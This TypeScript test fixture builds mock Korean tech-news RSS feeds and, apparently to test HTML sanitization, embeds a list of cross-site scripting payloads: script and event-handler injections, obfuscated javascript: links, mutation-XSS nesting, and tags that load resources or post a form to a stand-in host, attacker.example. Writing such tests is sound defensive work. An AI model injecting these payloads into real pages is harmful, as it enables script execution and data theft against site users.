/** A small Korean ICT news corpus for the end-to-end tests, dated relative to "now". */
import { rss, type RssItemSpec } from '../helpers/rss';

const minutesAgo = (now: number, m: number) => new Date(now - m * 60_000).toUTCString();

export function etnewsFeed(now: number, extra: RssItemSpec[] = []): string {
  return rss({
    title: '전자신문 테스트',
    link: 'https://www.etnews.example/',
    items: [
      ...extra,
      {
        guid: 'et-1001',
        title: '카카오브레인 김일두 대표 퇴사…KoGPT 개발 이끈 주역',
        link: 'https://news.example.kr/a/1001',
        author: '김기자',
        pubDate: minutesAgo(now, 30),
        description:
          '<p>카카오의 인공지능 연구 자회사 <b>카카오브레인</b>의 김일두 대표가 <a href="https://news.example.kr/a/1001">회사를 떠난다</a>. 업계에 따르면 그는 최근 퇴사 의사를 밝혔다.</p><p>카카오브레인은 초거대 AI 모델 KoGPT를 개발했다.</p>',
      },
      {
        guid: 'et-1002',
        title: '네이버, 하이퍼클로바X 기업용 서비스 출시',
        link: 'https://news.example.kr/a/1002',
        pubDate: minutesAgo(now, 50),
        description: '<p>네이버클라우드가 생성형 AI 하이퍼클로바X의 기업용 서비스를 내놨다.</p>',
      },
      {
        guid: 'et-1003',
        title: '삼성전자 반도체 부문 임원 퇴사 잇따라',
        link: 'https://news.example.kr/a/1003',
        pubDate: minutesAgo(now, 70),
        description: '<p>삼성전자 DS부문에서 임원들의 퇴사가 이어지고 있다.</p>',
      },
    ],
  });
}

export function zdnetFeed(now: number): string {
  return rss({
    title: '지디넷 테스트',
    link: 'https://zdnet.example/',
    items: [
      {
        guid: 'zd-2001',
        title: '카카오브레인 대표 사임…카카오 AI 전략 바뀌나',
        link: 'https://news.example.kr/a/1001',
        pubDate: minutesAgo(now, 25),
        description: '<p>카카오브레인 대표가 물러나면서 카카오의 AI 전략에도 변화가 예상된다.</p>',
      },
      {
        guid: 'zd-2002',
        title: '오픈AI, 한국 지사 설립 추진',
        link: 'https://news.example.kr/a/2002',
        pubDate: minutesAgo(now, 90),
        description: '<p>오픈AI가 서울에 지사를 세운다.</p>',
      },
      {
        guid: 'zd-2003',
        title: '카카오브레인 채용 설명회 안내',
        link: 'javascript:alert(1)',
        pubDate: minutesAgo(now, 120),
        description: '<p>카카오브레인이 채용 설명회를 연다.</p>',
      },
    ],
  });
}

export const ATTACKER = 'attacker.example';

/** The foundation issue's XSS payloads, plus ways to make a request leave for the attacker. */
export const XSS_PAYLOAD = [
  '<p>카카오브레인 보안 점검 기사 본문.</p>',
  '<script>window.__pwned = "script"</script>',
  '<script src="https://attacker.example/x.js"></script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="1"/></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<style>@import url(https://attacker.example/s.css); body { display: none }</style>',
  '<link rel="stylesheet" href="https://attacker.example/l.css">',
  '<div style="background:url(https://attacker.example/bg.png)">스타일</div>',
  '<form action="https://attacker.example/steal"><input name="q" value="비밀"><button>보내기</button></form>',
  '<object data="https://attacker.example/o.swf"></object><embed src="https://attacker.example/e.swf">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/meta">',
  '<base href="https://attacker.example/">',
  '<a id="js-link" href="javascript:window.__pwned=\'link\'">자바스크립트 링크</a>',
  '<a id="js-entity" href="jav&#x09;ascript:window.__pwned=\'entity\'">엔티티 링크</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<video poster="https://attacker.example/p.png"></video>',
].join('\n');

export function xssFeed(now: number): string {
  return rss({
    title: '보안 테스트 피드',
    link: 'https://security.example/',
    items: [
      {
        guid: 'xss-1',
        title: '카카오브레인 보안 점검 <img src=x onerror="window.__pwned=\'title\'">',
        link: 'https://news.example.kr/a/9001',
        pubDate: minutesAgo(now, 10),
        description: XSS_PAYLOAD,
      },
    ],
  });
}

export const RSS_HEADERS = { 'Content-Type': 'application/rss+xml; charset=utf-8' };
